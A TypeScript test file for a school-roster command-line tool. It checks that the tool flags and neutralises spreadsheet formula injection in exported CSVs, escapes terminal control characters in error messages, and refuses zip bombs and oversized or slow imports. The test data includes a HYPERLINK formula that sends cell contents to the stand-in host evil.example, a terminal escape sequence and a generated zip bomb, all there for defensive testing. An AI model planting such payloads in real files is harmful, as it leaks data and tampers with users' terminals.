import { spawnSync } from 'node:child_process';
import { createWriteStream, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { finished } from 'node:stream/promises';
import yazl from 'yazl';
import { BundleBudget, BundleLimitError } from '../../src/roster/bundle-limits';
import { cliArguments, ROOT } from '../support/cli';
import { csvText, smallSchool, withValue, writeBundle } from '../support/roster-bundle';
import { importBundle, schoolRows } from '../support/roster-import';
import { openTestStore } from '../support/stores';

/**
 * What a bundle can do to the files an export writes and to the terminal an import prints on, and
 * how long and how large an import may run, as the probe tried them through the command.
 */
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
const FORMULAS = { s1: HYPERLINK, s2: '@SUM(1+1)', s3: '+1+1', 't-1': '-2+3' };
const ESCAPE_SEQUENCE = '\u001b]0;owned\u0007\u001b[2J\u009b31m';

describe('export and import of cells a spreadsheet would run, and control characters', () => {
  let folder: string;
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'school-files-'));
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  const run = (dataDirectory: string, ...args: string[]) =>
    spawnSync(process.execPath, cliArguments(...args), {
      cwd: ROOT,
      env: { ...process.env, DATA_DIR: dataDirectory, DATABASE_URL: '' },
      encoding: 'utf8',
    });
  const rowsOf = async (dataDirectory: string) => {
    const store = await openTestStore({ DATA_DIR: dataDirectory });
    try {
      return await schoolRows(store);
    } finally {
      await store.close();
    }
  };

  test('export writes formulas exactly, warning of each; --for-spreadsheet neutralises them; both import', async () => {
    let rows = smallSchool();
    for (const [sourcedId, formula] of Object.entries(FORMULAS))
      rows = withValue(rows, 'users', sourcedId, 'familyName', formula);
    const source = join(folder, 'source');
    expect(run(source, 'import', writeBundle(rows)).status).toBe(0);

    const plain = join(folder, 'plain');
    const exported = run(source, 'export', plain);
    expect(exported.status).toBe(0);
    const users = readFileSync(join(plain, 'users.csv'), 'utf8');
    expect(users).toContain(`"${HYPERLINK.replaceAll('"', '""')}"`);
    expect(users).toContain(',@SUM(1+1),');
    const warnings = exported.stderr.split('\n').filter((line) => line.startsWith('warning: users.csv'));
    // The four formulas, and a phone number given back as the school wrote it ("+966 50 765 4321"),
    // which a spreadsheet would also take for a formula, spaces and all.
    expect(warnings).toHaveLength(5);
    expect(warnings.join('\n')).toContain(`a spreadsheet would run this cell as a formula: ${HYPERLINK}`);
    expect(warnings.join('\n')).toContain('a spreadsheet would run this cell as a formula: +966 50 765 4321');
    expect(exported.stderr).toContain('5 cells would run as formulas in a spreadsheet');

    const neutral = join(folder, 'neutral');
    const forSpreadsheet = run(source, 'export', neutral, '--for-spreadsheet');
    expect(forSpreadsheet.status).toBe(0);
    expect(forSpreadsheet.stderr).not.toContain('warning:');
    const neutralUsers = readFileSync(join(neutral, 'users.csv'), 'utf8');
    for (const formula of Object.values(FORMULAS)) {
      const cell = `'${formula}`;
      expect(neutralUsers).toContain(cell.includes('"') ? `"${cell.replaceAll('"', '""')}"` : `,${cell},`);
    }

    for (const bundle of [plain, neutral]) {
      const target = join(folder, `from-${bundle === plain ? 'plain' : 'neutral'}`);
      expect(run(target, 'import', bundle).status).toBe(0);
      expect(await rowsOf(target)).toEqual(await rowsOf(source));
    }
  });

  test('a problem line shows the control characters of a cell escaped', () => {
    const rows = withValue(smallSchool(), 'demographics', 's1', 'birthDate', `2013${ESCAPE_SEQUENCE}`);
    const refused = run(join(folder, 'escapes'), 'import', writeBundle(rows));
    expect(refused.status).toBe(2);
    expect(refused.stderr).toContain(
      'demographics.csv:2:2: bad-date: birthDate "2013\\u001b]0;owned\\u0007\\u001b[2J\\u009b31m"',
    );
    for (const control of ['\u001b', '\u0007', '\u009b']) expect(refused.stderr).not.toContain(control);
  });
});

describe('import bounds', () => {
  const run = (settings: Record<string, string>, ...args: string[]) =>
    spawnSync(process.execPath, cliArguments(...args), {
      cwd: ROOT,
      env: { ...process.env, DATA_DIR: mkdtempSync(join(tmpdir(), 'school-bounds-')), DATABASE_URL: '', ...settings },
      encoding: 'utf8',
    });

  /** The small school's files, and one more entry of `bombBytes` zeros, zipped. */
  const zipWith = async (bombBytes: number): Promise<string> => {
    const path = join(mkdtempSync(join(tmpdir(), 'school-bomb-')), 'bundle.zip');
    const zip = new yazl.ZipFile();
    for (const [name, rows] of Object.entries(smallSchool())) zip.addBuffer(Buffer.from(csvText(rows)), `${name}.csv`);
    if (bombBytes > 0) zip.addBuffer(Buffer.alloc(bombBytes, 0x30), 'padding.csv');
    zip.end();
    const output = createWriteStream(path);
    zip.outputStream.pipe(output);
    await finished(output);
    return path;
  };

  test('a zip whose entries declare more than IMPORT_MAX_BYTES is refused before it is read', async () => {
    const bundle = await zipWith(0);
    const refused = run({ IMPORT_MAX_BYTES: '2048' }, 'import', bundle);
    expect(refused.status).toBe(2);
    expect(refused.stderr).toMatch(
      /import failed, nothing was written: .*bundle\.zip: declares \d+ bytes, more than IMPORT_MAX_BYTES \(2048\)/,
    );
    expect(refused.stderr).not.toContain('rows in');
    expect(run({}, 'import', bundle).status).toBe(0);
  });

  test('a small zip that inflates hundreds of times is refused as a bomb with the default bounds', async () => {
    const bundle = await zipWith(40 * 1024 * 1024);
    const refused = run({}, 'import', bundle);
    expect(refused.status).toBe(2);
    expect(refused.stderr).toContain('padding.csv inflates more than 100 times its compressed size');
    expect(refused.stderr).not.toContain('rows in');
  });

  test('the bytes are counted as they are read, whatever was declared', async () => {
    const budget = new BundleBudget('bundle.zip', {
      maxBytes: 1000,
      deadline: Number.POSITIVE_INFINITY,
      now: Date.now,
    });
    budget.checkDeclared([{ name: 'users.csv', size: 10, compressedSize: 10 }]);
    const lying = budget.counted(Readable.from([Buffer.alloc(600), Buffer.alloc(600)]), { name: 'users.csv' });
    await expect(async () => {
      for await (const _chunk of lying);
    }).rejects.toThrow(
      new BundleLimitError('bundle.zip: inflates to more than 1000 bytes, more than IMPORT_MAX_BYTES (1000)'),
    );
  });

  test('an import past its time limit stops and writes nothing', async () => {
    const store = await openTestStore({ DATA_DIR: mkdtempSync(join(tmpdir(), 'school-late-')) });
    try {
      const late = { maxBytes: 1_000_000, deadline: 1_000, now: () => 2_000 };
      await expect(importBundle(store, writeBundle(smallSchool()), { limits: late })).rejects.toThrow(
        'reading it took longer than IMPORT_TIME_LIMIT_SECONDS allows',
      );
      expect(Object.values(await schoolRows(store)).every((table) => table.length === 0)).toBe(true);
    } finally {
      await store.close();
    }
  });
});
